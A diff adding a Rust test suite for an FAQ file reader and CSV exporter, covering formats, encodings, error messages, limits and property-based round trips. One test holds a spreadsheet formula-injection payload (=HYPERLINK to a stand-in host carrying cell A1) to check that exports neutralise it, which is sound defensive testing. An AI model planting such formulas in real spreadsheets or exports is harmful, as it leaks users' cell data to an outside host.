@@ -1,0 +1,320 @@
+//! The shapes in which real FAQs come: each of these files holds the same three pairs, and is read as it is.
+
+#![allow(clippy::unwrap_used, reason = "a test may stop")]
+
+use kolibri_faq::{
+    Column, CsvWriter, Fault, Format, Found, Limits, Options, Pair, Part, Place, Problem, Reader, Separator,
+    Unreadable,
+};
+
+const QUESTIONS: [&str; 3] = ["Какой режим работы?", "How do I reset my password?", "Где вас найти?"];
+const ANSWERS: [&str; 3] =
+    ["С 9 до 18, \"без обеда\"; в выходные закрыто", "Open Settings,\nthen press Reset.", "ул. Ленина, 5"];
+
+macro_rules! fixtures {
+    ($($name:literal: $found:literal,)*) => {
+        &[$(($name, include_bytes!(concat!("fixtures/", $name)), $found)),*]
+    };
+}
+
+/// Each file, and how it has to be read.
+const FIXTURES: &[(&str, &[u8], &str)] = fixtures! {
+    "excel-ru.csv": "CSV windows-1251 ';' header",
+    "excel-utf8.csv": "CSV UTF-8 ';' header",
+    "excel-unicode-text.txt": "TSV UTF-16LE '\\t' header",
+    "unmarked-utf16.csv": "CSV UTF-16BE ',' header",
+    "sheets.csv": "CSV UTF-8 ',' header",
+    "mac.csv": "CSV UTF-8 ',' header",
+    "sep.csv": "CSV windows-1251 '|' header",
+    "no-header.tsv": "TSV UTF-8 '\\t'",
+    "no-header.csv": "CSV UTF-8 ','",
+    "array.json": "JSON UTF-8",
+    "sections.json": "JSON UTF-8",
+    "object.json": "JSON UTF-8",
+    "schema-org.json": "JSON UTF-8",
+    "rows.json": "JSON UTF-8",
+    "helpdesk.jsonl": "JSON Lines UTF-8",
+    "list.yaml": "YAML UTF-8",
+    "object.yml": "YAML UTF-8",
+    "headings.markdown": "Markdown UTF-8",
+    "labels.txt": "Markdown UTF-8",
+    "labels.markdown": "Markdown windows-1251",
+    "bold.markdown": "Markdown UTF-8",
+    "terms.markdown": "Markdown UTF-8",
+};
+
+fn open<'a>(name: Option<&str>, bytes: &'a [u8]) -> Reader<'a> {
+    Reader::open(bytes, name, Options::default()).unwrap()
+}
+
+fn pairs(reader: Reader<'_>) -> Vec<(String, String)> {
+    let notes_aside =
+        |entry: &Result<Pair, Fault>| !entry.as_ref().is_err_and(|fault| fault.problem.is_note());
+    reader.filter(notes_aside).map(|pair| pair.map(|pair| (pair.question, pair.answer)).unwrap()).collect()
+}
+
+fn shown(found: &Found) -> String {
+    let delimiter = found.delimiter.map(|delimiter| format!(" {delimiter:?}")).unwrap_or_default();
+    let header = if found.header { " header" } else { "" };
+    format!("{} {}{delimiter}{header}", found.format.name(), found.encoding)
+}
+
+#[test]
+fn every_shape_is_read_as_it_is() {
+    for (name, bytes, found) in FIXTURES {
+        let reader = open(Some(name), bytes);
+        assert_eq!(shown(reader.found()), *found, "{name}");
+        // Without quotes a row of a table is one line.
+        let answers =
+            ANSWERS.map(
+                |answer| if *name == "no-header.tsv" { answer.replace('\n', " ") } else { answer.to_owned() },
+            );
+        let expected: Vec<_> = QUESTIONS.map(str::to_owned).into_iter().zip(answers).collect();
+        assert_eq!(pairs(reader), expected, "{name}");
+    }
+}
+
+#[test]
+fn no_shape_needs_the_name_of_the_file() {
+    for (name, bytes, _) in FIXTURES {
+        assert_eq!(pairs(open(None, bytes)), pairs(open(Some(name), bytes)), "{name}");
+    }
+}
+
+fn read(name: &str, text: &str) -> Vec<Result<(String, String), String>> {
+    open(Some(name), text.as_bytes())
+        .map(|entry| entry.map(|pair| (pair.question, pair.answer)).map_err(|fault| fault.to_string()))
+        .collect()
+}
+
+fn ok(question: &str, answer: &str) -> Result<(String, String), String> {
+    Ok((question.to_owned(), answer.to_owned()))
+}
+
+#[test]
+fn a_row_that_is_wrong_is_told_and_does_not_lose_the_others() {
+    let read = read("faq.csv", "question,answer,tag\na,1,x\nb\nc,,x\nd,4,x,y\n\"e\" f,5,x\n ,6,x\ng,7,x\n");
+    assert_eq!(read.first(), Some(&ok("a", "1")));
+    assert_eq!(read.last(), Some(&ok("g", "7")));
+    let faults: Vec<_> = read.into_iter().filter_map(Result::err).collect();
+    assert_eq!(
+        faults,
+        [
+            "line 3: this line has 1 fields, but the answer is in column 2",
+            "line 4: the answer is empty",
+            "line 5: this line has 4 fields, but the first line has 3; put a text that contains the delimiter in quotes",
+            "line 6: there is text behind a closing quote; write a quote inside of a quoted text twice",
+            "line 7: the question is empty",
+        ]
+    );
+}
+
+#[test]
+fn an_item_that_is_no_pair_is_told_with_its_number() {
+    let json = r#"[{"question":"a","answer":"1"},{"question":"b"},7,{"question":"c","answer":{"x":1}},
+                   {"question":"d","question":"e","answer":"2"},{"question":["f","g"],"answer":["1","2"]}]"#;
+    let read = read("faq.json", json);
+    assert_eq!(read[0], ok("a", "1"));
+    assert_eq!(read[5..], [ok("f", "1\n2"), ok("g", "1\n2")]);
+    for (at, problem) in [
+        (1, "item 2: there is no answer among the fields `question`"),
+        (
+            2,
+            "item 3: expected an object with a question and an answer, or a list of both, but found a text alone",
+        ),
+        (3, "item 4: the answer is an object"),
+        (4, "item 5: the field `question` is there twice"),
+    ] {
+        assert!(read[at].as_ref().unwrap_err().starts_with(problem), "{:?}", read[at]);
+    }
+}
+
+#[test]
+fn a_line_of_json_lines_is_told_with_its_number() {
+    let read = read(
+        "faq.jsonl",
+        "{\"q\":\"a\",\"a\":\"1\"}\n\nnonsense\n{\"q\":\"b\"}\r\n[\"c\",\"3\"]\n{\"Why?\":\"So\"}",
+    );
+    assert_eq!((&read[0], &read[3], &read[4]), (&ok("a", "1"), &ok("c", "3"), &ok("Why?", "So")));
+    assert!(read[1].as_ref().unwrap_err().starts_with("line 3: this is not JSON: expected"), "{read:?}");
+    assert!(read[2].as_ref().unwrap_err().starts_with("line 4: there is no answer"), "{read:?}");
+}
+
+#[test]
+fn a_section_is_no_pair_although_it_has_a_title_and_a_text() {
+    let json =
+        r#"{"sections":[{"title":"Pay","text":"All about it","items":[{"question":"How?","answer":"So"}]}]}"#;
+    let read = read("faq.json", json);
+    assert_eq!(read.iter().flatten().collect::<Vec<_>>(), [&("How?".to_owned(), "So".to_owned())]);
+    assert_eq!(read.len(), 2, "the text of the section is told: {read:?}");
+}
+
+#[test]
+fn what_cannot_be_read_at_all_says_what_to_do() {
+    let fails = |name: Option<&str>, bytes: &[u8], options: Options| match Reader::open(bytes, name, options)
+    {
+        Ok(reader) => panic!("{:?}", reader.found()),
+        Err(error) => error.to_string(),
+    };
+    for (name, text, said) in [
+        ("a.csv", "", "the file is empty"),
+        ("a.txt", " \r\n\n", "the file is empty"),
+        (
+            "a.csv",
+            "only one column\nand no other\n",
+            "the first line is `only one column`, in which nothing separates",
+        ),
+        ("a.txt", "only words\n", "this looks like none of CSV, TSV, JSON"),
+        (
+            "a.csv",
+            "id,question,level\n1,Why?,2\n",
+            "no column for the answer; the columns are `id`, `question`, `level`",
+        ),
+        ("a.json", "[{\"question\": ", "line 1: this is not JSON: EOF"),
+        ("a.json", "[]", "no questions and answers were found; expected a list of objects"),
+        ("a.yaml", "- a: [\n", "this is not YAML"),
+        ("a.md", "", "the file is empty"),
+        ("a.md", "\\", "no questions and answers"),
+    ] {
+        let told = fails(Some(name), text.as_bytes(), Options::default());
+        assert!(told.contains(said), "{name}: {told}");
+    }
+    let damaged = ["[\"Вопрос\",\n\"".as_bytes(), b"\xff\"]"].concat();
+    assert!(
+        fails(Some("a.json"), &damaged, Options::default()).starts_with("line 2 is not UTF-8; save the file")
+    );
+    let wanted = Options { answer: Some(Column::named("Reply")), ..Options::default() };
+    let told = fails(Some("a.csv"), b"Question,Answer\na,b\n", wanted);
+    assert!(
+        told.starts_with("no column for the answer is called `Reply`; the columns are `Question`, `Answer`"),
+        "{told}"
+    );
+}
+
+#[test]
+fn an_export_of_nothing_holds_nothing() {
+    for (name, text) in [("a.jsonl", ""), ("a.jsonl", "\n"), ("a.csv", "stimulus,response\r\n")] {
+        assert!(read(name, text).is_empty(), "{name}");
+    }
+}
+
+#[test]
+fn what_is_said_overrules_what_is_found() {
+    let options = Options {
+        format: Some(Format::Csv),
+        encoding: kolibri_faq::encoding_named("koi8-r"),
+        question: Some(Column::named("3")),
+        answer: Some(Column::named("kommentar")),
+        limits: None,
+    };
+    let bytes = b"id;Kommentar;Frage\r\n1;\xc4\xc1;\xc7\xc4\xc5?\r\n";
+    let reader = Reader::open(&bytes[..], Some("a.json"), options).unwrap();
+    assert_eq!(pairs(reader), [("где?".to_owned(), "да".to_owned())]);
+    let json = br#"[{"frage":"a","antwort":"b","question":"no","answer":"no"}]"#;
+    let fields = Options {
+        question: Some(Column::named("frage")),
+        answer: Some(Column::named("Antwort")),
+        ..Options::default()
+    };
+    assert_eq!(pairs(Reader::open(&json[..], None, fields).unwrap()), [("a".to_owned(), "b".to_owned())]);
+}
+
+#[test]
+fn a_text_beyond_the_limits_is_told() {
+    let options = Options { limits: Some(Limits { question: 4, answer: 6 }), ..Options::default() };
+    let reader =
+        Reader::open(&b"q,a\nlong?,x\nq,long answer\nda?,answer\n"[..], Some("a.csv"), options).unwrap();
+    let read: Vec<_> = reader.collect();
+    let too_long = |line, part, bytes, most| {
+        Err(Fault { place: Place::Line(line), problem: Problem::TooLong { part, bytes, most } })
+    };
+    assert_eq!(read[0], too_long(2, Part::Question, 5, 4));
+    assert_eq!(read[1], too_long(3, Part::Answer, 11, 6));
+    assert_eq!(read[2].as_ref().unwrap().question, "da?");
+}
+
+#[test]
+fn a_stream_is_read_without_its_end() {
+    // What comes after the sample is read as it is asked for.
+    let head = "question,answer\n".to_owned() + &"Why?,So\n".repeat(300_000);
+    let endless = std::io::Read::chain(head.as_bytes(), std::io::repeat(b'x'));
+    let reader = Reader::open(endless, Some("a.csv"), Options::default()).unwrap();
+    assert_eq!(reader.take(300_000).filter(Result::is_ok).count(), 300_000);
+    let endless = std::io::Read::chain(&b"["[..], std::io::repeat(b' '));
+    assert!(matches!(
+        Reader::open(endless, Some("a.json"), Options::default()),
+        Err(Unreadable::TooLong { format: "JSON" })
+    ));
+}
+
+/// The file that people get from `kolibri export --format csv`.
+fn written(pairs: &[(String, String)], separator: Separator, mark: bool) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    let mut writer = CsvWriter::begin(&mut bytes, separator, mark).unwrap();
+    pairs.iter().for_each(|(question, answer)| writer.write(question, answer).unwrap());
+    writer.flush().unwrap();
+    bytes
+}
+
+#[test]
+fn no_cell_of_an_export_is_a_formula() {
+    let pairs = [("=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Open\")".to_owned(), "-2+3".to_owned())];
+    let text = String::from_utf8(written(&pairs, Separator::Comma, true)).unwrap();
+    let expected = "\u{feff}stimulus,response\r\n\
+                    \"'=HYPERLINK(\"\"http://example.invalid/?x=\"\"&A1,\"\"Open\"\")\",'-2+3\r\n";
+    assert_eq!(text, expected);
+    assert_eq!(self::pairs(open(Some("a.csv"), text.as_bytes())), pairs);
+}
+
+mod properties {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    /// Every kind of text that may be taught, the weird above all.
+    fn text() -> impl Strategy<Value = String> {
+        let weird =
+            "[\u{0}-\u{20}\"',;|=+@\u{7f}-\u{a0}\u{200b}-\u{202e}\u{feff}\u{fffe}\u{ffff}\u{10ffff}a-]{1,12}";
+        prop_oneof![weird.prop_map(String::from), any::<String>(), ".{1,3}\r\n.{1,3}"]
+            .prop_filter("blank texts are not taught", |text| !text.trim().is_empty())
+    }
+
+    proptest! {
+        #[test]
+        fn csv_round_trips_every_text(
+            pairs in prop::collection::vec((text(), text()), 1..8), mark: bool,
+            separator in prop::sample::select(vec![Separator::Comma, Separator::Semicolon, Separator::Tab])
+        ) {
+            let bytes = written(&pairs, separator, mark);
+            let name = if separator == Separator::Tab { "a.tsv" } else { "a.csv" };
+            prop_assert_eq!(self::super::pairs(open(Some(name), &bytes)), pairs);
+        }
+
+        #[test]
+        fn json_lines_round_trip_every_text(pairs in prop::collection::vec((text(), text()), 1..8)) {
+            let line = |(question, answer): &(String, String)| {
+                format!("{}\n", serde_json::json!({ "stimulus": question, "response": answer, "source": { "index": 1 } }))
+            };
+            let text: String = pairs.iter().map(line).collect();
+            prop_assert_eq!(self::super::pairs(open(Some("a.jsonl"), text.as_bytes())), pairs);
+        }
+
+        #[test]
+        fn nothing_breaks_a_reader(bytes in prop::collection::vec(any::<u8>(), 0..300), name in prop::sample::select(vec![
+            "a.csv", "a.tsv", "a.json", "a.jsonl", "a.yaml", "a.md", "a.txt",
+        ])) {
+            if let Ok(reader) = Reader::open(bytes.as_slice(), Some(name), Options::default()) {
+                reader.for_each(drop);
+            }
+        }
+
+        #[test]
+        fn no_text_breaks_a_reader(text in "[-#*:\\[\\]{}\"'&|>,; \n\ta?QA=<]{0,60}", name in prop::sample::select(vec![
+            "a.csv", "a.tsv", "a.json", "a.yaml", "a.md", "a.txt",
+        ])) {
+            if let Ok(reader) = Reader::open(text.as_bytes(), Some(name), Options::default()) {
+                reader.for_each(drop);
+            }
+        }
+    }
+}
